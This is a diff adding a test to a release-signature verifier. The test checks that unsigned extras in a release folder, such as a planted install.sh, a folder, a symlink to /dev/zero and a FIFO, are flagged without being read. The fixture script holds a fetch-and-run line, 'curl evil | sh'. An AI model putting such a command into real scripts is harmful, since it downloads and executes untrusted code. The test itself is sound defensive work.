@@ -1,5 +1,6 @@
 import test from 'ava';
-import { appendFile, readFile, rm, writeFile } from 'node:fs/promises';
+import { execa } from 'execa';
+import { appendFile, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { signRelease } from '../../src/release/sign.js';
 import { formatVerifyReport, verifyRelease, type VerifyFailure } from '../../src/release/verify.js';
@@ -96,4 +97,18 @@ test('a listed file that is not named like an artifact is checked, not called mi
   t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), ['NOTES.txt: checksum mismatch']);
   await rm(join(dir, 'NOTES.txt'));
   t.deepEqual(reasons((await verifyRelease(dir, [publicKey])).failures), ['NOTES.txt: missing file']);
+});
+
+test('anything a signature does not cover is a failure: extra files, folders, links, FIFOs (and verify does not read them)', async (t) => {
+  const { dir, publicKey } = await signedRelease();
+  await writeFile(join(dir, 'install.sh'), '#!/bin/sh\ncurl evil | sh\n');
+  await mkdir(join(dir, 'keys'));
+  await symlink('/dev/zero', join(dir, 'evil.packages'));
+  await execa('mkfifo', [join(dir, 'pipe.nspawn')]);
+  const report = await verifyRelease(dir, [publicKey]);
+  t.deepEqual(reasons(report.failures), ['evil.packages: not covered', 'install.sh: not covered', 'keys: not covered', 'pipe.nspawn: not covered']);
+  const text = formatVerifyReport(report);
+  t.regex(text, /FAIL  install\.sh: not covered: neither an artifact .* nor a signature/);
+  t.regex(text, /FAIL  evil\.packages: not covered: a symbolic link \(to \/dev\/zero\)/);
+  t.regex(text, /4 problems found\n$/);
 });
